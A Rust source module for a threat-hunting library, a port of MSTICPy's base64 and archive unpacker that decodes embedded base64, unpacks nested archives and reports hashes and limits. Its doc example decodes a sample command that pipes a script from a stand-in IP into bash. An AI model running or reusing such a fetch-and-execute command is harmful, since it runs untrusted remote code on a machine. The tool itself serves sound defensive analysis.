//! Base64 and archive unpacking: find base64 in text, decode it, unpack
//! gzip/zlib/deflate/zip/tar, identify binaries, and do it again on what
//! comes out — bounded in depth, bytes, members, sizes and ratios.
//!
//! The port of MSTICPy's `base64unpack` (`unpack`, `unpack_df`), with the
//! same output columns and the same `<decoded …>` markers in the fully
//! decoded string, so analysts' habits and downstream code carry over.
//!
//! ```
//! use huntbook::transform::unpack::Unpacker;
//! let out = Unpacker::new()
//!     .unpack("echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgYmFzaA== | base64 -d")?;
//! assert_eq!(
//!     out.decoded_string(),
//!     "echo <decoded type='string' name='[None]' index='1' depth='1'>\
//!      curl -s http://198.51.100.23/x.sh | bash</decoded> | base64 -d"
//! );
//! let item = &out.items()[0];
//! assert_eq!(item.decoded_string.as_deref(), Some("curl -s http://198.51.100.23/x.sh | bash"));
//! assert_eq!(item.md5.as_deref(), Some("6faea9d14c7f9c6e040007288a6a7772"));
//! assert_eq!(out.df().height(), 1);
//! # Ok::<(), huntbook::Error>(())
//! ```
//!
//! ## What it finds
//! A candidate is a run of at least 30 (`min_length`) characters of
//! `[A-Za-z0-9+/]` and line breaks with up to two `=` — MSTICPy's rule. It
//! decodes as Python's lenient `b64decode` does. The decoded bytes are then:
//! - an **archive** (gzip, zip, tar, zlib; raw deflate when it inflates
//!   cleanly to text): every member is extracted, and a member that is text
//!   is scanned again, one that is an archive is unpacked again;
//! - a **known binary** by its magic bytes (`exe`/`dll`/`sys`, `elf`,
//!   `macho`, `pdf`, `7z`, `rar`, `msi`, `cab`, `wim`, `xz`, `bz2`, `zst`,
//!   `lnk`, `png`, `jpg`, `gif`, `class`, `dex`): reported with hashes;
//! - **text** — UTF-16LE when it looks like it (PowerShell `-EncodedCommand`;
//!   [`Utf16Mode`]), else UTF-8 — replaced in the running text by a
//!   `<decoded type='string' …>` marker and scanned again one level deeper;
//! - anything else: a binary marker with the bytes in hex.
//!
//! ## Output
//! One [`DecodedItem`] a decoded item, as a frame with MSTICPy's columns
//! `reference, original_string, file_name, file_type, input_bytes,
//! decoded_string, encoding_type, file_hashes, md5, sha1, sha256,
//! printable_bytes` (and, from [`Unpacker::unpack_df`], `src_index`, the
//! input column and `full_decoded_string`), then huntbook's `depth` and
//! `stop_reason`.
//!
//! ## Differences from MSTICPy (deliberate)
//! - `reference` is the item's index path as in the marker (`"1.2"`), with
//!   the nesting level in `depth`, instead of a 3-tuple.
//! - Nesting follows the real chain: a blob found inside a decoded string is
//!   one level deeper than it (MSTICPy rescans the whole string per level, so
//!   a blob revealed late can be numbered as a sibling, and its depth-3
//!   prefixes read `1..1.`). Failed candidates do not use up an index.
//! - UTF-16LE is detected without a flag ([`Utf16Mode::Auto`]);
//!   [`Utf16Mode::Force`] is MSTICPy's `utf16=True`.
//! - Nested archives (tar.gz, a gzip inside a zip) are unpacked; a member
//!   of a multi-member archive gets its own index path (`1.1`, `1.2`), and
//!   the archive itself a row (type, hashes, notes).
//! - Limits stop a branch with a reason in `stop_reason` instead of running
//!   out of memory; corrupt and truncated archives are reported, not raised.
//! - `printable_bytes` (and the hex in binary markers) is cut at
//!   `max_printable_bytes` bytes.

mod archive;
mod detect;
mod engine;
mod frame;
mod fuzz;
mod scan;

pub use frame::{Unpacked, UnpackedFrame};
pub use fuzz::fuzz_one;

use crate::error::Result;
use polars::prelude::DataFrame;
use std::fmt;
use std::sync::Arc;

/// How decoded bytes are tried as UTF-16.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Utf16Mode {
    /// UTF-16LE when it looks like text: a little-endian byte-order mark, or
    /// at least half the high bytes zero, and every character printable or
    /// whitespace. Plain ASCII/UTF-8 is never taken for UTF-16.
    #[default]
    Auto,
    /// Never UTF-16 (MSTICPy's default: `-Enc` payloads show as `I\0E\0X\0`).
    Off,
    /// UTF-16 first whenever it decodes, as MSTICPy's `utf16=True` does
    /// (Python's `decode("utf-16")`): even-length ASCII reads as CJK noise.
    Force,
}

/// What the decoded bytes were read as (`encoding_type`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    /// UTF-8 text.
    Utf8,
    /// UTF-16 text.
    Utf16,
    /// Not text.
    Binary,
}

impl Encoding {
    /// MSTICPy's name: `utf-8`, `utf-16` or `binary`.
    pub fn as_str(self) -> &'static str {
        match self {
            Encoding::Utf8 => "utf-8",
            Encoding::Utf16 => "utf-16",
            Encoding::Binary => "binary",
        }
    }
}

/// Why a branch of the unpacking stopped early. Shown in `stop_reason`;
/// the limit names match the [`Unpacker`] settings.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum StopReason {
    /// The item is at the deepest level allowed: its text holds more base64,
    /// or it is an archive, that was not decoded or unpacked.
    MaxDepth {
        /// The `max_depth` setting.
        limit: u64,
    },
    /// The input's budget of decoded and decompressed bytes is spent.
    MaxTotalBytes,
    /// A member is larger than `max_member_size`; its content is not kept.
    MaxMemberSize {
        /// The `max_member_size` setting.
        limit: u64,
    },
    /// A member inflates to more than `max_ratio` times its compressed size
    /// (checked past 1 MiB); its content is not kept.
    MaxRatio {
        /// The `max_ratio` setting.
        limit: u64,
        /// The member's compressed size.
        compressed: u64,
    },
    /// An archive has more members than `max_members`.
    MaxMembers {
        /// The `max_members` setting.
        limit: u64,
        /// Members not read.
        skipped: u64,
    },
    /// The input produced `max_items` items; later candidates were skipped.
    MaxItems {
        /// The `max_items` setting.
        limit: u64,
        /// Base64 candidates not decoded in this text.
        skipped: u64,
    },
    /// Password-protected zip members, not decrypted.
    Encrypted {
        /// Their names.
        members: Vec<String>,
    },
    /// A corrupt or truncated archive or stream.
    Corrupt {
        /// `gzip`, `zlib`, `deflate`, `zip` or `tar`.
        format: &'static str,
        /// What the decoder said.
        detail: String,
    },
}

impl fmt::Display for StopReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            StopReason::MaxDepth { limit } => {
                write!(
                    f,
                    "max_depth {limit} reached: not decoded or unpacked further"
                )
            }
            StopReason::MaxTotalBytes => {
                write!(f, "max_total_bytes reached: not decoded or unpacked")
            }
            StopReason::MaxMemberSize { limit } => {
                write!(
                    f,
                    "max_member_size {limit} bytes exceeded: content not kept"
                )
            }
            StopReason::MaxRatio { limit, compressed } => write!(
                f,
                "max_ratio {limit} exceeded ({compressed} compressed bytes): content not kept"
            ),
            StopReason::MaxMembers { limit, skipped } => {
                write!(
                    f,
                    "max_members {limit} reached: {skipped} more members not read"
                )
            }
            StopReason::MaxItems { limit, skipped } => write!(
                f,
                "max_items {limit} reached: {skipped} more base64 candidates not decoded"
            ),
            StopReason::Encrypted { members } => {
                write!(f, "encrypted: members {} not decrypted", members.join(", "))
            }
            StopReason::Corrupt { format, detail } => write!(f, "corrupt {format}: {detail}"),
        }
    }
}

/// One decoded item: a base64 blob, an archive member, or an archive.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DecodedItem {
    /// Index path, as in the marker: `"1"`, `"1.2"` (second item inside the first).
    pub reference: String,
    /// Nesting level, from 1.
    pub depth: u32,
    /// The base64 text the item came from.
    pub original_string: Arc<str>,
    /// The archive member's name, or `unknown`.
    pub file_name: String,
    /// File type from magic bytes, or the archive it came from (`gz`, `zip`,
    /// `tar`, …; `zip (pwd protected)`).
    pub file_type: Option<String>,
    /// The decoded bytes (empty when a limit dropped them).
    pub input_bytes: Vec<u8>,
    /// The decoded text (not rescanned), for text items.
    pub decoded_string: Option<String>,
    /// How the bytes read; `None` when a limit dropped them.
    pub encoding_type: Option<Encoding>,
    /// MD5 of `input_bytes`, hex.
    pub md5: Option<String>,
    /// SHA-1 of `input_bytes`, hex.
    pub sha1: Option<String>,
    /// SHA-256 of `input_bytes`, hex.
    pub sha256: Option<String>,
    /// The bytes as space-separated hex (cut at `max_printable_bytes`).
    pub printable_bytes: Option<String>,
    /// Why this branch stopped early, if it did.
    pub stop_reasons: Vec<StopReason>,
}

impl DecodedItem {
    /// The stop reasons joined with `"; "`, or `None`.
    pub fn stop_reason(&self) -> Option<String> {
        if self.stop_reasons.is_empty() {
            None
        } else {
            Some(
                self.stop_reasons
                    .iter()
                    .map(ToString::to_string)
                    .collect::<Vec<_>>()
                    .join("; "),
            )
        }
    }
}

/// Largest `max_depth` accepted: recursion uses the stack.
pub const MAX_DEPTH_CAP: usize = 64;

/// Unpacking settings, with every limit. `Default` is MSTICPy's depth (20)
/// and sizes that stop bombs early.
///
/// ```
/// use huntbook::transform::unpack::{Unpacker, Utf16Mode};
/// let u = Unpacker::new()
///     .max_depth(5)
///     .max_total_bytes(8 << 20)
///     .utf16(Utf16Mode::Force);
/// let out = u.unpack("x VwByAGkAdABlAC0ASABvAHMAdAAgAGgAZQBsAGwAbwA= y")?;
/// assert_eq!(out.items()[0].decoded_string.as_deref(), Some("Write-Host hello"));
/// # Ok::<(), huntbook::Error>(())
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unpacker {
    pub(crate) max_depth: usize,
    pub(crate) max_total_bytes: usize,
    pub(crate) max_members: usize,
    pub(crate) max_member_size: usize,
    pub(crate) max_ratio: u64,
    pub(crate) max_items: usize,
    pub(crate) min_length: usize,
    pub(crate) max_printable_bytes: usize,
    pub(crate) utf16: Utf16Mode,
    pub(crate) raw_deflate: bool,
}

impl Default for Unpacker {
    fn default() -> Self {
        Self {
            max_depth: 20,
            max_total_bytes: 32 << 20,
            max_members: 256,
            max_member_size: 8 << 20,
            max_ratio: 200,
            max_items: 1000,
            min_length: 30,
            max_printable_bytes: 4096,
            utf16: Utf16Mode::Auto,
            raw_deflate: true,
        }
    }
}

impl Unpacker {
    /// The default settings.
    pub fn new() -> Self {
        Self::default()
    }

    /// Deepest nesting level decoded (default 20, MSTICPy's; 1 decodes only
    /// the blobs in the input itself; at most [`MAX_DEPTH_CAP`]).
    pub fn max_depth(mut self, n: usize) -> Self {
        self.max_depth = n.clamp(1, MAX_DEPTH_CAP);
        self
    }

    /// Bytes that base64 decoding and decompression may produce for one
    /// input string, all levels together (default 32 MiB).
    pub fn max_total_bytes(mut self, n: usize) -> Self {
        self.max_total_bytes = n;
        self
    }

    /// Members read from one zip or tar archive (default 256).
    pub fn max_members(mut self, n: usize) -> Self {
        self.max_members = n;
        self
    }

    /// Largest decompressed member kept (default 8 MiB).
    pub fn max_member_size(mut self, n: usize) -> Self {
        self.max_member_size = n;
        self
    }

    /// Largest decompressed/compressed size ratio (default 200), checked
    /// once a member is past 1 MiB.
    pub fn max_ratio(mut self, n: u64) -> Self {
        self.max_ratio = n.max(1);
        self
    }

    /// Items (rows) produced for one input string (default 1000).
    pub fn max_items(mut self, n: usize) -> Self {
        self.max_items = n.max(1);
        self
    }

    /// Shortest base64 run taken as a candidate (default 30, MSTICPy's; at least 4).
    pub fn min_length(mut self, n: usize) -> Self {
        self.min_length = n.max(4);
        self
    }

    /// Bytes shown as hex in `printable_bytes` and binary markers (default 4096).
    pub fn max_printable_bytes(mut self, n: usize) -> Self {
        self.max_printable_bytes = n;
        self
    }

    /// How UTF-16 is detected (default [`Utf16Mode::Auto`]).
    pub fn utf16(mut self, mode: Utf16Mode) -> Self {
        self.utf16 = mode;
        self
    }

    /// Try binary blobs with no magic bytes as raw deflate (PowerShell
    /// `DeflateStream`), kept only when they inflate cleanly to text
    /// (default `true`).
    pub fn raw_deflate(mut self, on: bool) -> Self {
        self.raw_deflate = on;
        self
    }

    /// Unpacks one string: the fully decoded string and the decoded items.
    pub fn unpack(&self, text: &str) -> Result<Unpacked> {
        let (decoded, items) = engine::unpack_text(self, text);
        Unpacked::new(decoded, items)
    }

    /// Unpacks raw bytes (a file that is itself a zip, gzip, executable or
    /// text) as if they had been decoded from base64 at depth 1; the
    /// `original_string` of the items is empty.
    pub fn unpack_bytes(&self, bytes: &[u8]) -> Result<Unpacked> {
        let (decoded, items) = engine::unpack_bytes(self, bytes);
        Unpacked::new(decoded, items)
    }

    /// Unpacks every value of a string column. The result has a row for
    /// each decoded item of each input row, with `src_index` (the row
    /// number), the input value and `full_decoded_string`; rows with nothing
    /// decoded are left out, as in MSTICPy. Null values are skipped.
    pub fn unpack_df(&self, df: &DataFrame, column: &str) -> Result<UnpackedFrame> {
        frame::unpack_frame(self, df, column)
    }
}

/// A result frame ready for CSV: `input_bytes` as hex text and no
/// `file_hashes` struct (its fields are the `md5`/`sha1`/`sha256` columns).
pub fn export_df(df: &DataFrame) -> Result<DataFrame> {
    frame::export(df)
}

/// [`Unpacker::unpack`] with the default settings.
pub fn unpack(text: &str) -> Result<Unpacked> {
    Unpacker::new().unpack(text)
}

/// [`Unpacker::unpack_df`] with the default settings.
pub fn unpack_df(df: &DataFrame, column: &str) -> Result<UnpackedFrame> {
    Unpacker::new().unpack_df(df, column)
}
